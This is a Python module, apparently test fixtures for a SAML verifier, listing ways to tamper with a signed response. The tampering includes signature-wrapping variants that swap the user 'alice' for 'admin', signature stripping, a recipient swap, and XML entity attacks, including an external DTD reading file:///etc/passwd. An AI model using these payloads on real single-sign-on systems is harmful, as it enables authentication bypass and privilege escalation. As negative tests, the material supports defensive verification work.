"""Ways of bending a signed response: each changes whom it is about, or what is read of it."""

import re

from .saml import RECIPIENT


def parts(response: str) -> tuple[str, str]:
    """The signed assertion and its signature."""
    return (re.search(r"<saml:Assertion.*</saml:Assertion>", response, re.S)[0],
            re.search(r"<Signature.*</Signature>", response, re.S)[0])


def evil(response: str) -> str:
    """The assertion without its signature, about somebody else."""
    assertion, signature = parts(response)
    return assertion.replace(signature, "").replace("alice", "admin")


def renamed(assertion: str) -> str:
    return re.sub(r' ID="[^"]*"', ' ID="_evil"', assertion, count=1)


def before(response: str, other: str) -> str:
    return response.replace(parts(response)[0], other + parts(response)[0])


def inside_signature(response: str, other: str, inner: str) -> str:
    """`other` with the signature in it, in whose `Object` lies `inner`."""
    _, signature = parts(response)
    wrapped = signature.replace("</Signature>", f"<Object>{inner}</Object></Signature>")
    return response.replace(parts(response)[0], other.replace("<saml:Subject>", f"{wrapped}<saml:Subject>", 1))


ATTACKS = {
    "text": lambda r: r.replace("alice</saml:NameID>", "admin</saml:NameID>"),
    "attribute": lambda r: r.replace(">alice</saml:AttributeValue>", ">admin</saml:AttributeValue>"),
    "recipient": lambda r: r.replace(RECIPIENT + '"/>', 'https://eu-west-1.signin.aws.amazon.com/saml"/>'),
    "no-signature": lambda r: r.replace(parts(r)[1], ""),
    "before": lambda r: before(r, evil(r)),
    "before-renamed": lambda r: before(r, renamed(evil(r))),
    "after-renamed": lambda r: r.replace(parts(r)[0], parts(r)[0] + renamed(evil(r))),
    "original-in-object": lambda r: inside_signature(r, renamed(evil(r)), parts(r)[0].replace(parts(r)[1], "")),
    "original-in-object-same-id": lambda r: inside_signature(r, evil(r), parts(r)[0].replace(parts(r)[1], "")),
    "original-in-evil": lambda r: r.replace(
        parts(r)[0], renamed(evil(r)).replace("</saml:Assertion>", parts(r)[0] + "</saml:Assertion>")),
    "evil-in-original": lambda r: r.replace("</saml:Assertion>", renamed(evil(r)) + "</saml:Assertion>"),
    "original-in-extensions": lambda r: r.replace(
        parts(r)[0], f"<samlp:Extensions>{parts(r)[0]}</samlp:Extensions>{renamed(evil(r))}"),
    "response-in-object": lambda r: r.replace(
        "</Signature>", "<Object>" + re.search(r"<samlp:Response.*", r, re.S)[0] + "</Object></Signature>"),
    "doctype": lambda r: '<!DOCTYPE r [<!ENTITY e "admin">]>' + r.replace("alice</saml:NameID>", "&e;</saml:NameID>"),
    "entities": lambda r: '<!DOCTYPE r [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;">]>' + r,
    "external": lambda r: '<!DOCTYPE r SYSTEM "file:///etc/passwd">' + r,
    "deep": lambda r: r.replace("</samlp:Response>", "<a>" * 2000 + "</a>" * 2000 + "</samlp:Response>"),
    "encrypted": lambda r: r.replace("</samlp:Response>", "<saml:EncryptedAssertion xmlns:saml=\"urn:oasis:names:tc:SAML:2.0:assertion\"/></samlp:Response>"),
    "cut": lambda r: r[:-20],
}
